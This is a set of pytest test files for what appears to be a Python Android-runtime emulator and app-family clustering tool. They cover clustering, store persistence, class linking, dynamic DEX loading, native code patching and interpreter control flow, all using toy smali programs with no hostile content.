        assignment = cluster_families(profiles, threshold=1.0)
        assert {tuple(f["apps"]) for f in assignment.families} >= \
            {("a1", "a2"), ("b1", "b2"), ("lone",)}
        # Tiny threshold: the shared stub glues everything together.
        merged = cluster_families(profiles, threshold=0.01)
        assert merged.families[0]["size"] == 5

    def test_families_sorted_largest_first(self):
        profiles = self._profiles()
        profiles["a3"] = _profile("a3", "stub", "fam-a-1", "fam-a-2")
        assignment = cluster_families(profiles)
        sizes = [f["size"] for f in assignment.families]
        assert sizes == sorted(sizes, reverse=True)
        assert assignment.families[0]["apps"] == ["a1", "a2", "a3"]

    def test_round_trips_through_dict(self):
        assignment = cluster_families(self._profiles())
        clone = FamilyAssignment.from_dict(assignment.to_dict())
        assert clone.to_json() == assignment.to_json()
        assert clone.family_of("a1") == assignment.family_of("a1")

    def test_byte_identical_across_insertion_orders(self):
        # The acceptance bar: the serialized partition is a pure
        # function of the member *set* — shuffling the entry stream
        # (what different worker counts / arrival orders produce) must
        # not move a single byte of families.json content.
        entries = []
        for app, digests in [
            ("a1", ["stub", "fam-a-1", "fam-a-2"]),
            ("a2", ["stub", "fam-a-1", "fam-a-2"]),
            ("b1", ["stub", "fam-b-1", "fam-b-2"]),
            ("b2", ["stub", "fam-b-1", "fam-b-2"]),
            ("lone", ["stub", "own"]),
        ]:
            entries.extend(_Entry(app, digest) for digest in digests)
        baseline = cluster_families(build_profiles(entries)).to_json()
        for seed in range(5):
            shuffled = list(entries)
            random.Random(seed).shuffle(shuffled)
            assignment = cluster_families(build_profiles(shuffled))
            assert assignment.to_json() == baseline

    def test_default_threshold_exported(self):
        assert 0.0 < DEFAULT_FAMILY_THRESHOLD <= 1.0
