"""ClusterStore persistence: segments, meta guard, families snapshot."""

import json
import os

import pytest

from repro.cluster.store import (
    CLUSTER_FORMAT_VERSION,
    ClusterMember,
    ClusterStore,
)
from repro.core import CollectStage, RevealConfig
from repro.dex import assemble
from repro.index.fuzzy import fuzzy_digest
from repro.runtime import Apk


def _member(app_id, n=0, fuzzy=None, norm=None):
    return ClusterMember(
        kind="method",
        app_id=app_id,
        class_desc=f"L{app_id}/C{n};",
        method=f"L{app_id}/C{n};->m{n}()V",
        norm=norm if norm is not None else f"norm-{app_id}-{n}",
        fuzzy=fuzzy,
    )


def _fuzzy(seed):
    import hashlib
    out = b""
    counter = 0
    while len(out) < 400:
        out += hashlib.sha256(f"{seed}:{counter}".encode()).digest()
        counter += 1
    return fuzzy_digest(out[:400])


def _records(package="s.app", main_cls="Ls/App;"):
    apk = Apk(package, main_cls, [assemble(f"""
.class public {main_cls}
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/4 v0, 0
    const/16 v1, 9
    :loop
    if-ge v0, v1, :done
    add-int/lit8 v0, v0, 1
    goto :loop
    :done
    return-void
.end method
""")])
    result = CollectStage(RevealConfig()).run(apk)
    return result.archive.method_store().executed_records()


class TestOpenGuards:
    def test_create_false_on_missing_store_raises(self, tmp_path):
        path = tmp_path / "nowhere"
        with pytest.raises(FileNotFoundError) as excinfo:
            ClusterStore(path, create=False)
        assert "no cluster store at" in str(excinfo.value)
        assert not path.exists()  # read-only open never creates

    def test_foreign_version_is_refused(self, tmp_path):
        root = tmp_path / "store"
        root.mkdir()
        (root / "cluster_meta.json").write_text(
            json.dumps({"version": CLUSTER_FORMAT_VERSION + 1}))
        with pytest.raises(ValueError) as excinfo:
            ClusterStore(root)
        message = str(excinfo.value)
        assert "format version" in message
        assert "\n" not in message  # one-line diagnostic

    def test_unreadable_meta_is_refused(self, tmp_path):
        root = tmp_path / "store"
        root.mkdir()
        (root / "cluster_meta.json").write_text("{not json")
        with pytest.raises(ValueError):
            ClusterStore(root)


class TestPersistence:
    def test_members_survive_reopen(self, tmp_path):
        root = str(tmp_path / "store")
        store = ClusterStore(root)
        assert store.add_member(_member("app.a", 0, fuzzy=_fuzzy(1)))
        assert store.add_member(_member("app.b", 0, fuzzy=_fuzzy(2)))
        assert not store.add_member(_member("app.a", 0, fuzzy=_fuzzy(1)))
        store.close()

        reopened = ClusterStore(root, create=False)
        assert len(reopened.members()) == 2
        assert reopened.apps_with_norm("norm-app.a-0") == ["app.a"]
        assert reopened.stats()["lsh"]["items"] == 2
        reopened.close()

    def test_two_writers_merge_at_reopen(self, tmp_path):
        root = str(tmp_path / "store")
        first, second = ClusterStore(root), ClusterStore(root)
        first.add_member(_member("app.a"))
        second.add_member(_member("app.b"))
        first.close()
        second.close()

        merged = ClusterStore(root, create=False)
        assert {m.app_id for m in merged.members()} == {"app.a", "app.b"}
        assert merged.stats()["segments"] == 2
        merged.close()

    def test_corrupt_lines_are_counted_and_skipped(self, tmp_path):
        root = str(tmp_path / "store")
        store = ClusterStore(root)
        store.add_member(_member("app.a"))
        store.close()

        segments = os.path.join(root, "segments")
        name = next(n for n in os.listdir(segments) if n.endswith(".jsonl"))
        with open(os.path.join(segments, name), "a", encoding="utf-8") as fh:
            fh.write("{truncated\n")
            fh.write(json.dumps({"v": 999, "kind": "method",
                                 "app_id": "x", "class_desc": "LX;"}) + "\n")

        reopened = ClusterStore(root, create=False)
        assert len(reopened.members()) == 1
        assert reopened.corrupt_lines == 2
        assert reopened.stats()["corrupt_lines"] == 2
        reopened.close()

    def test_compact_folds_segments(self, tmp_path):
        root = str(tmp_path / "store")
        for app in ("app.a", "app.b", "app.c"):
            store = ClusterStore(root)
            store.add_member(_member(app))
            store.close()
        store = ClusterStore(root, create=False)
        assert store.stats()["segments"] == 3
        assert store.compact() == 3
        assert store.stats()["segments"] == 1
        store.close()

        reopened = ClusterStore(root, create=False)
        assert {m.app_id for m in reopened.members()} == \
            {"app.a", "app.b", "app.c"}
        reopened.close()

    def test_register_records_from_a_real_reveal(self, tmp_path):
        store = ClusterStore(str(tmp_path / "store"))
        added = store.register_records("s.app", _records())
        assert added >= 1
        assert any(m.kind == "method" and m.app_id == "s.app"
                   for m in store.members())
        # Same records again: fully deduplicated.
        assert store.register_records("s.app", _records()) == 0
        store.close()


class TestQueriesAndFamilies:
    def test_nearest_via_the_banded_lsh(self, tmp_path):
        store = ClusterStore(str(tmp_path / "store"))
        for i in range(6):
            store.add_member(_member(f"app.{i}", i, fuzzy=_fuzzy(i)))
        results = store.nearest(_fuzzy(3), limit=2)
        assert results[0][0] == 0  # exact self-distance
        assert results[0][1].app_id == "app.3"
        assert results == store.nearest(_fuzzy(3), limit=2, exhaustive=True)
        store.close()

    def test_family_of_before_any_build_is_empty(self, tmp_path):
        store = ClusterStore(str(tmp_path / "store"))
        assert store.families() is None
        assert store.family_of("app.a") == ""
        store.close()

    def test_build_families_snapshot_survives_reopen(self, tmp_path):
        root = str(tmp_path / "store")
        store = ClusterStore(root)
        for app in ("kin.a", "kin.b"):
            store.add_member(_member(app, 0, norm="shared-1"))
            store.add_member(_member(app, 1, norm="shared-2"))
        store.add_member(_member("loner", 0, norm="own"))
        assignment = store.build_families()
        store.close()
        assert assignment.family_of("kin.a") == assignment.family_of("kin.b")
        assert assignment.family_of("loner") != assignment.family_of("kin.a")

        reopened = ClusterStore(root, create=False)
        assert reopened.family_of("kin.a") == assignment.family_of("kin.a")
        assert reopened.stats()["families"] == len(assignment.families)
        reopened.close()

    def test_families_json_byte_identical_across_orders(self, tmp_path):
        # Worker-count / insertion-order independence at the file level:
        # the same member set written in opposite orders by different
        # writer ids must snapshot byte-identical families.json files.
        members = [_member(app, n, norm=f"shared-{n}" if app != "loner"
                           else "own")
                   for app in ("kin.a", "kin.b", "loner")
                   for n in range(3)]
        snapshots = []
        for order, name in ((members, "fwd"), (members[::-1], "rev")):
            root = str(tmp_path / name)
            store = ClusterStore(root)
            for member in order:
                store.add_member(member)
            store.build_families()
            store.close()
            with open(os.path.join(root, "families.json"), "rb") as fh:
                snapshots.append(fh.read())
        assert snapshots[0] == snapshots[1]
