"""Shared fixtures and helpers for the test-suite."""

from __future__ import annotations

import pytest

from repro.dex import assemble
from repro.runtime import AndroidRuntime, Apk


@pytest.fixture
def runtime() -> AndroidRuntime:
    return AndroidRuntime(max_steps=2_000_000)


def build_simple_apk(package: str = "com.fix.simple") -> Apk:
    """A minimal activity computing sum of squares into a field."""
    text = """
.class public Lcom/fix/Simple;
.super Landroid/app/Activity;
.field public total:I

.method public onCreate(Landroid/os/Bundle;)V
    .registers 6
    const/4 v0, 0
    const/4 v1, 0
    :loop
    const/16 v2, 10
    if-ge v1, v2, :done
    mul-int v3, v1, v1
    add-int v0, v0, v3
    add-int/lit8 v1, v1, 1
    goto :loop
    :done
    iput v0, p0, Lcom/fix/Simple;->total:I
    return-void
.end method
"""
    return Apk(package, "Lcom/fix/Simple;", [assemble(text)])


def run_method(runtime: AndroidRuntime, smali: str, signature: str, *args):
    """Assemble a class, install it and invoke one method."""
    dex = assemble(smali)
    apk = Apk("com.fix.run", dex.class_descriptor(dex.class_defs[0]), [dex])
    runtime.install_apk(apk)
    return runtime.call(signature, *args)
