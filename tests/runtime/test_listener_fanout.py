"""Zero-cost listener fan-out: only real observers are ever called."""

from repro.runtime import AndroidRuntime, AppDriver
from repro.runtime.hooks import LISTENER_HOOKS, ListenerFanout, RuntimeListener

from tests.conftest import build_simple_apk


class _Counter(RuntimeListener):
    def __init__(self) -> None:
        self.instructions = 0
        self.branches = 0

    def on_instruction(self, frame, dex_pc, ins) -> None:
        self.instructions += 1

    def on_branch(self, frame, dex_pc, ins, taken) -> None:
        self.branches += 1


class TestFanoutConstruction:
    def test_hooks_cover_the_listener_surface(self):
        assert "on_instruction" in LISTENER_HOOKS
        assert "on_method_enter" in LISTENER_HOOKS
        assert set(LISTENER_HOOKS) == {
            name for name in vars(RuntimeListener) if name.startswith("on_")
        }

    def test_base_noop_listener_appears_nowhere(self):
        fanout = ListenerFanout([RuntimeListener()])
        for hook in LISTENER_HOOKS:
            assert getattr(fanout, hook) == ()

    def test_overriders_appear_only_where_they_override(self):
        counter = _Counter()
        fanout = ListenerFanout([counter])
        assert fanout.on_instruction == (counter,)
        assert fanout.on_branch == (counter,)
        for hook in LISTENER_HOOKS:
            if hook not in ("on_instruction", "on_branch"):
                assert getattr(fanout, hook) == ()

    def test_order_preserved(self):
        first, second = _Counter(), _Counter()
        fanout = ListenerFanout([first, second])
        assert fanout.on_instruction == (first, second)


class TestRuntimeRebuild:
    def test_add_and_remove_rebuild_fanout(self):
        runtime = AndroidRuntime()
        counter = _Counter()
        runtime.add_listener(counter)
        assert runtime.fanout.on_instruction == (counter,)
        runtime.remove_listener(counter)
        assert runtime.fanout.on_instruction == ()

    def test_uninstrumented_run_has_empty_fanout(self):
        runtime = AndroidRuntime()
        report = AppDriver(runtime, build_simple_apk("fan.none")).launch()
        assert report.launched
        assert runtime.fanout.on_instruction == ()

    def test_listener_attached_mid_frame_sees_next_fetch(self):
        """add_listener swaps the fanout object; the running frame must
        pick it up on the very next step, as on the naive loop."""
        from repro.dex import assemble
        from repro.runtime import Apk

        runtime = AndroidRuntime()
        smali = """
.class public Lt/Mid;
.super Ljava/lang/Object;
.method public static run()I
    .registers 1
    invoke-static {}, Lt/Mid;->attach()V
    const/4 v0, 5
    return v0
.end method
.method public static native attach()V
.end method
"""
        runtime.install_apk(Apk("t.mid", "Lt/Mid;", [assemble(smali)]))
        counter = _Counter()
        runtime.natives.register(
            "Lt/Mid;->attach()V", lambda ctx: runtime.add_listener(counter)
        )
        assert runtime.call("Lt/Mid;->run()I") == 5
        # const/4 and return execute after the native attached it.
        assert counter.instructions == 2

    def test_observer_sees_every_fetch(self):
        instrumented = AndroidRuntime()
        counter = _Counter()
        instrumented.add_listener(counter)
        report = AppDriver(
            instrumented, build_simple_apk("fan.counted")
        ).launch()
        assert report.launched
        # One on_instruction per consumed step, exactly.
        assert counter.instructions == instrumented.steps
        assert counter.branches > 0
