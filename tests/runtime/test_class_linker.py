"""Class linker behaviour: lazy linking, init order, dynamic DEX."""

import pytest

from repro.dex import DexBuilder, assemble
from repro.errors import ClassLinkError
from repro.runtime import AndroidRuntime, Apk
from repro.runtime.hooks import RuntimeListener


class _LoadSpy(RuntimeListener):
    def __init__(self):
        self.loaded = []
        self.initialized = []

    def on_class_loaded(self, klass):
        self.loaded.append(klass.descriptor)

    def on_class_initialized(self, klass):
        self.initialized.append(klass.descriptor)


def _two_class_apk() -> Apk:
    builder = DexBuilder()
    assemble("""
.class public Ll/A;
.super Ljava/lang/Object;
.method public static touch()V
    .registers 1
    return-void
.end method
""", builder)
    assemble("""
.class public Ll/B;
.super Ljava/lang/Object;
.field public static marker:I = 3
.method public static touch()V
    .registers 1
    return-void
.end method
""", builder)
    return Apk("l.two", "Ll/A;", [builder.dex])


class TestLazyLinking:
    def test_classes_link_on_first_use_only(self):
        runtime = AndroidRuntime()
        spy = _LoadSpy()
        runtime.add_listener(spy)
        runtime.install_apk(_two_class_apk())
        assert spy.loaded == []  # registration does not link
        runtime.call("Ll/A;->touch()V")
        assert spy.loaded == ["Ll/A;"]
        runtime.call("Ll/B;->touch()V")
        assert spy.loaded == ["Ll/A;", "Ll/B;"]

    def test_initialization_fires_once(self):
        runtime = AndroidRuntime()
        spy = _LoadSpy()
        runtime.add_listener(spy)
        runtime.install_apk(_two_class_apk())
        runtime.call("Ll/B;->touch()V")
        runtime.call("Ll/B;->touch()V")
        assert spy.initialized.count("Ll/B;") == 1

    def test_missing_class_raises(self):
        runtime = AndroidRuntime()
        with pytest.raises(ClassLinkError):
            runtime.class_linker.lookup("Lno/Such;")

    def test_superclass_initialized_first(self):
        builder = DexBuilder()
        assemble("""
.class public Ll/Sup;
.super Ljava/lang/Object;
.field public static order:Ljava/lang/String; = "sup"
.method static constructor <clinit>()V
    .registers 1
    return-void
.end method
""", builder)
        assemble("""
.class public Ll/Sub;
.super Ll/Sup;
.method public static touch()V
    .registers 1
    return-void
.end method
""", builder)
        runtime = AndroidRuntime()
        spy = _LoadSpy()
        runtime.add_listener(spy)
        runtime.install_apk(Apk("l.order", "Ll/Sub;", [builder.dex]))
        runtime.call("Ll/Sub;->touch()V")
        assert spy.initialized.index("Ll/Sup;") < spy.initialized.index("Ll/Sub;")

    def test_boot_classes_have_no_source_dex(self):
        runtime = AndroidRuntime()
        klass = runtime.class_linker.lookup("Ljava/lang/String;")
        assert klass.source_dex is None
        assert runtime.class_linker.loaded_app_classes() == []

    def test_array_class_synthesized(self):
        runtime = AndroidRuntime()
        klass = runtime.class_linker.lookup("[I")
        assert klass.superclass.descriptor == "Ljava/lang/Object;"


class TestDynamicRegistration:
    def test_second_dex_registers_through_same_path(self):
        runtime = AndroidRuntime()
        spy = _LoadSpy()
        runtime.add_listener(spy)
        runtime.install_apk(_two_class_apk())
        extra = assemble("""
.class public Ll/Late;
.super Ljava/lang/Object;
.method public static touch()I
    .registers 2
    const/16 v0, 64
    return v0
.end method
""")
        runtime.class_linker.register_dex(extra)
        assert runtime.call("Ll/Late;->touch()I") == 64
        assert "Ll/Late;" in spy.loaded  # collected like any app class

    def test_first_registration_wins_for_duplicate_descriptor(self):
        runtime = AndroidRuntime()
        first = assemble("""
.class public Ll/Dup;
.super Ljava/lang/Object;
.method public static v()I
    .registers 2
    const/4 v0, 1
    return v0
.end method
""")
        second = assemble("""
.class public Ll/Dup;
.super Ljava/lang/Object;
.method public static v()I
    .registers 2
    const/4 v0, 2
    return v0
.end method
""")
        runtime.class_linker.register_dex(first)
        runtime.class_linker.register_dex(second)
        assert runtime.call("Ll/Dup;->v()I") == 1
