"""APK container, app driver and self-modification primitives."""

import pytest

from repro.dex import assemble
from repro.dex.instructions import Instruction
from repro.errors import ReproError
from repro.runtime import (
    AndroidRuntime,
    Apk,
    AppDriver,
    register_native_library,
)

from tests.conftest import build_simple_apk


class TestApkContainer:
    def test_bytes_roundtrip(self):
        apk = build_simple_apk()
        apk.assets["data/blob.bin"] = b"\x01\x02\x03"
        again = Apk.from_bytes(apk.to_bytes())
        assert again.package == apk.package
        assert again.main_activity == apk.main_activity
        assert again.assets["data/blob.bin"] == b"\x01\x02\x03"
        assert len(again.dex_files) == 1

    def test_clone_is_deep(self):
        apk = build_simple_apk()
        clone = apk.clone()
        assert clone.primary_dex is not apk.primary_dex
        assert clone.primary_dex.class_descriptors() == (
            apk.primary_dex.class_descriptors()
        )

    def test_multi_dex_roundtrip(self):
        apk = build_simple_apk()
        second = assemble(".class public Lx/Extra;\n.super Ljava/lang/Object;")
        apk.dex_files.append(second)
        again = Apk.from_bytes(apk.to_bytes())
        assert len(again.dex_files) == 2
        assert again.dex_files[1].find_class("Lx/Extra;") is not None

    def test_unknown_native_library_fails_on_install(self):
        apk = build_simple_apk()
        apk.native_libraries.append("lib-that-does-not-exist")
        runtime = AndroidRuntime()
        with pytest.raises(ReproError):
            runtime.install_apk(apk)

    def test_replace_primary_dex(self):
        apk = build_simple_apk()
        replacement = assemble(".class public Ln/New;\n.super Ljava/lang/Object;")
        apk.replace_primary_dex(replacement)
        assert apk.primary_dex.find_class("Ln/New;") is not None


class TestAppDriver:
    def test_launch_runs_lifecycle(self):
        runtime = AndroidRuntime()
        driver = AppDriver(runtime, build_simple_apk())
        report = driver.launch()
        assert report.launched
        assert driver.activity.fields[("Lcom/fix/Simple;", "total")] == 285

    def test_standard_session_delivers_clicks(self):
        text = """
.class public Lt/Click;
.super Landroid/app/Activity;
.field public static clicks:I = 0

.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    const/16 v0, 5
    invoke-virtual {p0, v0}, Lt/Click;->findViewById(I)Landroid/view/View;
    move-result-object v0
    invoke-virtual {v0, p0}, Landroid/view/View;->setOnClickListener(Landroid/view/View$OnClickListener;)V
    return-void
.end method

.method public onClick(Landroid/view/View;)V
    .registers 4
    sget v0, Lt/Click;->clicks:I
    add-int/lit8 v0, v0, 1
    sput v0, Lt/Click;->clicks:I
    return-void
.end method
"""
        dex = assemble(text)
        runtime = AndroidRuntime()
        driver = AppDriver(runtime, Apk("t.click", "Lt/Click;", [dex]))
        report = driver.run_standard_session()
        assert report.launched
        klass = runtime.class_linker.lookup("Lt/Click;")
        # Standard session clicks every listener twice.
        assert klass.statics["clicks"] == 2

    def test_crash_is_reported_not_raised(self):
        text = """
.class public Lt/Boom;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 3
    const/4 v0, 0
    const/4 v1, 1
    div-int v0, v1, v0
    return-void
.end method
"""
        runtime = AndroidRuntime()
        driver = AppDriver(runtime, Apk("t.boom", "Lt/Boom;", [assemble(text)]))
        report = driver.launch()
        assert report.crashed
        assert "ArithmeticException" in report.crash_reason


class TestNativeContext:
    def test_patch_code_changes_behavior(self):
        text = """
.class public Lt/Sm;
.super Ljava/lang/Object;
.method public static answer()I
    .registers 2
    const/16 v0, 111
    return v0
.end method
.method public static native rewrite()V
.end method
"""

        def rewrite(ctx):
            patched = Instruction.make("const/16", 0, 222).encode()
            ctx.patch_code("Lt/Sm;->answer()I", 0, patched)

        register_native_library("libtest_sm", {"Lt/Sm;->rewrite()V": rewrite})
        apk = Apk("t.sm", "Lt/Sm;", [assemble(text)],
                  native_libraries=["libtest_sm"])
        runtime = AndroidRuntime()
        runtime.install_apk(apk)
        assert runtime.call("Lt/Sm;->answer()I") == 111
        runtime.call("Lt/Sm;->rewrite()V")
        assert runtime.call("Lt/Sm;->answer()I") == 222

    def test_find_invoke_pc_and_pool_index(self):
        text = """
.class public Lt/Fi;
.super Ljava/lang/Object;
.method public static a()V
    .registers 1
    invoke-static {}, Lt/Fi;->b()V
    return-void
.end method
.method public static b()V
    .registers 1
    return-void
.end method
.method public static c()V
    .registers 1
    return-void
.end method
.method public static native probe()V
.end method
"""
        results = {}

        def probe(ctx):
            results["pc"] = ctx.find_invoke_pc("Lt/Fi;->a()V", "b")
            results["idx"] = ctx.method_pool_index("Lt/Fi;", "Lt/Fi;->c()V")

        register_native_library("libtest_fi", {"Lt/Fi;->probe()V": probe})
        runtime = AndroidRuntime()
        runtime.install_apk(
            Apk("t.fi", "Lt/Fi;", [assemble(text)], native_libraries=["libtest_fi"])
        )
        runtime.call("Lt/Fi;->probe()V")
        assert results["pc"] == 0
        dex = runtime.class_linker.lookup("Lt/Fi;").source_dex
        assert dex.method_ref(results["idx"]).name == "c"

    def test_unlinked_native_throws(self):
        from repro.runtime.exceptions import VmThrow

        text = """
.class public Lt/Un;
.super Ljava/lang/Object;
.method public static native ghost()V
.end method
"""
        runtime = AndroidRuntime()
        runtime.install_apk(Apk("t.un", "Lt/Un;", [assemble(text)]))
        with pytest.raises(VmThrow) as info:
            runtime.call("Lt/Un;->ghost()V")
        assert "UnsatisfiedLinkError" in str(info.value)


class TestDynamicLoading:
    def test_dexclassloader_from_assets(self):
        payload = assemble("""
.class public Lp/Plug;
.super Ljava/lang/Object;
.method public static ping()I
    .registers 2
    const/16 v0, 777
    return v0
.end method
""")
        from repro.dex import write_dex

        text = """
.class public Lt/Dl;
.super Landroid/app/Activity;
.method public onCreate(Landroid/os/Bundle;)V
    .registers 4
    new-instance v0, Ldalvik/system/DexClassLoader;
    const-string v1, "plug.dex"
    invoke-direct {v0, v1}, Ldalvik/system/DexClassLoader;-><init>(Ljava/lang/String;)V
    return-void
.end method
"""
        apk = Apk("t.dl", "Lt/Dl;", [assemble(text)],
                  assets={"plug.dex": write_dex(payload)})
        runtime = AndroidRuntime()
        AppDriver(runtime, apk).launch()
        # Loaded class is callable afterwards.
        assert runtime.call("Lp/Plug;->ping()I") == 777
