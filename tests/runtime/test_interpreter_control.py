"""Control flow, arrays, fields, exceptions, wide values, switches."""

import pytest

from repro.errors import BudgetExceeded
from repro.runtime import AndroidRuntime, Apk, VmString
from repro.runtime.exceptions import VmThrow

from tests.conftest import run_method


class TestBranchesAndSwitches:
    def test_packed_switch_dispatch(self, runtime):
        smali = """
.class public Lt/Sw;
.super Ljava/lang/Object;
.method public static pick(I)I
    .registers 2
    packed-switch p0, :t
    const/4 v0, -1
    return v0
    :a
    const/16 v0, 10
    return v0
    :b
    const/16 v0, 20
    return v0
    :t
    .packed-switch 5
        :a
        :b
    .end packed-switch
.end method
"""
        assert run_method(runtime, smali, "Lt/Sw;->pick(I)I", 5) == 10
        assert runtime.call("Lt/Sw;->pick(I)I", 6) == 20
        assert runtime.call("Lt/Sw;->pick(I)I", 7) == -1
        assert runtime.call("Lt/Sw;->pick(I)I", 0) == -1

    def test_sparse_switch_dispatch(self, runtime):
        smali = """
.class public Lt/Sp;
.super Ljava/lang/Object;
.method public static pick(I)I
    .registers 2
    sparse-switch p0, :t
    const/4 v0, 0
    return v0
    :neg
    const/4 v0, 1
    return v0
    :big
    const/4 v0, 2
    return v0
    :t
    .sparse-switch
        -100 -> :neg
        99999 -> :big
    .end sparse-switch
.end method
"""
        assert run_method(runtime, smali, "Lt/Sp;->pick(I)I", -100) == 1
        assert runtime.call("Lt/Sp;->pick(I)I", 99999) == 2
        assert runtime.call("Lt/Sp;->pick(I)I", 3) == 0

    def test_loop_countdown(self, runtime):
        smali = """
.class public Lt/Loop;
.super Ljava/lang/Object;
.method public static sum(I)I
    .registers 3
    const/4 v0, 0
    :head
    if-lez p0, :done
    add-int v0, v0, p0
    add-int/lit8 p0, p0, -1
    goto :head
    :done
    return v0
.end method
"""
        assert run_method(runtime, smali, "Lt/Loop;->sum(I)I", 10) == 55

    def test_infinite_loop_hits_budget(self):
        runtime = AndroidRuntime(max_steps=5_000)
        smali = """
.class public Lt/Inf;
.super Ljava/lang/Object;
.method public static spin()V
    .registers 1
    :x
    goto :x
.end method
"""
        with pytest.raises(BudgetExceeded):
            run_method(runtime, smali, "Lt/Inf;->spin()V")


class TestArrays:
    def test_fill_array_data_and_sum(self, runtime):
        smali = """
.class public Lt/Arr;
.super Ljava/lang/Object;
.method public static sum()I
    .registers 5
    const/4 v0, 4
    new-array v1, v0, [I
    fill-array-data v1, :data
    const/4 v2, 0
    const/4 v3, 0
    :loop
    if-ge v3, v0, :done
    aget v4, v1, v3
    add-int v2, v2, v4
    add-int/lit8 v3, v3, 1
    goto :loop
    :done
    return v2
    :data
    .array-data 4
        10
        20
        -5
        1000
    .end array-data
.end method
"""
        assert run_method(runtime, smali, "Lt/Arr;->sum()I") == 1025

    def test_out_of_bounds_throws(self, runtime):
        smali = """
.class public Lt/Oob;
.super Ljava/lang/Object;
.method public static bad()I
    .registers 3
    const/4 v0, 2
    new-array v1, v0, [I
    const/4 v0, 5
    aget v0, v1, v0
    return v0
.end method
"""
        with pytest.raises(VmThrow) as info:
            run_method(runtime, smali, "Lt/Oob;->bad()I")
        assert "ArrayIndexOutOfBounds" in str(info.value)

    def test_null_array_throws_npe(self, runtime):
        smali = """
.class public Lt/Nul;
.super Ljava/lang/Object;
.method public static bad()I
    .registers 3
    const/4 v1, 0
    array-length v0, v1
    return v0
.end method
"""
        with pytest.raises(VmThrow) as info:
            run_method(runtime, smali, "Lt/Nul;->bad()I")
        assert "NullPointerException" in str(info.value)

    def test_negative_size_throws(self, runtime):
        smali = """
.class public Lt/Neg;
.super Ljava/lang/Object;
.method public static bad()V
    .registers 3
    const/4 v0, -1
    new-array v1, v0, [I
    return-void
.end method
"""
        with pytest.raises(VmThrow) as info:
            run_method(runtime, smali, "Lt/Neg;->bad()V")
        assert "NegativeArraySize" in str(info.value)


class TestExceptions:
    def test_catch_typed_handler(self, runtime):
        smali = """
.class public Lt/Try;
.super Ljava/lang/Object;
.method public static guard(I)I
    .registers 4
    :s
    const/16 v0, 100
    div-int v0, v0, p0
    :e
    return v0
    :h
    const/4 v0, -1
    return v0
    .catch Ljava/lang/ArithmeticException; {:s .. :e} :h
.end method
"""
        assert run_method(runtime, smali, "Lt/Try;->guard(I)I", 4) == 25
        assert runtime.call("Lt/Try;->guard(I)I", 0) == -1

    def test_catch_respects_hierarchy(self, runtime):
        # ArithmeticException is caught by a RuntimeException handler.
        smali = """
.class public Lt/Hier;
.super Ljava/lang/Object;
.method public static guard()I
    .registers 4
    :s
    const/4 v0, 0
    const/16 v1, 9
    div-int v0, v1, v0
    :e
    return v0
    :h
    const/16 v0, 77
    return v0
    .catch Ljava/lang/RuntimeException; {:s .. :e} :h
.end method
"""
        assert run_method(runtime, smali, "Lt/Hier;->guard()I") == 77

    def test_uncaught_propagates_to_caller_handler(self, runtime):
        smali = """
.class public Lt/Prop;
.super Ljava/lang/Object;
.method public static inner()V
    .registers 2
    const/4 v0, 0
    const/4 v1, 1
    div-int v0, v1, v0
    return-void
.end method

.method public static outer()I
    .registers 2
    :s
    invoke-static {}, Lt/Prop;->inner()V
    :e
    const/4 v0, 0
    return v0
    :h
    const/4 v0, 1
    return v0
    .catchall {:s .. :e} :h
.end method
"""
        assert run_method(runtime, smali, "Lt/Prop;->outer()I") == 1

    def test_move_exception_carries_object(self, runtime):
        smali = """
.class public Lt/Msg;
.super Ljava/lang/Object;
.method public static msg()Ljava/lang/String;
    .registers 4
    :s
    new-instance v0, Ljava/lang/IllegalStateException;
    const-string v1, "boom-42"
    invoke-direct {v0, v1}, Ljava/lang/IllegalStateException;-><init>(Ljava/lang/String;)V
    throw v0
    :e
    const/4 v2, 0
    return-object v2
    :h
    move-exception v2
    invoke-virtual {v2}, Ljava/lang/IllegalStateException;->getMessage()Ljava/lang/String;
    move-result-object v3
    return-object v3
    .catch Ljava/lang/IllegalStateException; {:s .. :e} :h
.end method
"""
        result = run_method(runtime, smali, "Lt/Msg;->msg()Ljava/lang/String;")
        assert isinstance(result, VmString)
        assert result.value == "boom-42"

    def test_tolerated_exception_continues(self):
        runtime = AndroidRuntime(max_steps=100_000)
        runtime.tolerate_exceptions = True
        smali = """
.class public Lt/Tol;
.super Ljava/lang/Object;
.method public static go()I
    .registers 3
    const/4 v0, 0
    const/4 v1, 5
    div-int v2, v1, v0
    const/16 v2, 123
    return v2
.end method
"""
        assert run_method(runtime, smali, "Lt/Tol;->go()I") == 123


class TestObjectsAndFields:
    def test_instance_fields_roundtrip(self, runtime):
        smali = """
.class public Lt/Obj;
.super Ljava/lang/Object;
.field public x:I

.method public <init>()V
    .registers 1
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public static demo()I
    .registers 3
    new-instance v0, Lt/Obj;
    invoke-direct {v0}, Lt/Obj;-><init>()V
    const/16 v1, 41
    iput v1, v0, Lt/Obj;->x:I
    iget v1, v0, Lt/Obj;->x:I
    add-int/lit8 v1, v1, 1
    return v1
.end method
"""
        assert run_method(runtime, smali, "Lt/Obj;->demo()I") == 41 + 1

    def test_static_field_defaults_after_init(self, runtime):
        smali = """
.class public Lt/St;
.super Ljava/lang/Object;
.field public static seed:I = 9

.method public static bump()I
    .registers 2
    sget v0, Lt/St;->seed:I
    add-int/lit8 v0, v0, 1
    sput v0, Lt/St;->seed:I
    return v0
.end method
"""
        assert run_method(runtime, smali, "Lt/St;->bump()I") == 10
        assert runtime.call("Lt/St;->bump()I") == 11

    def test_clinit_runs_once_before_use(self, runtime):
        smali = """
.class public Lt/Cl;
.super Ljava/lang/Object;
.field public static v:I

.method static constructor <clinit>()V
    .registers 2
    const/16 v0, 555
    sput v0, Lt/Cl;->v:I
    return-void
.end method

.method public static get()I
    .registers 1
    sget v0, Lt/Cl;->v:I
    return v0
.end method
"""
        assert run_method(runtime, smali, "Lt/Cl;->get()I") == 555

    def test_instance_of_and_check_cast(self, runtime):
        smali = """
.class public Lt/Io;
.super Ljava/lang/Object;
.method public static probe(Ljava/lang/Object;)I
    .registers 3
    instance-of v0, p0, Ljava/lang/String;
    return v0
.end method
"""
        run_method(runtime, smali, "Lt/Io;->probe(Ljava/lang/Object;)I",
                   VmString("x"))
        assert runtime.call("Lt/Io;->probe(Ljava/lang/Object;)I", VmString("x")) == 1
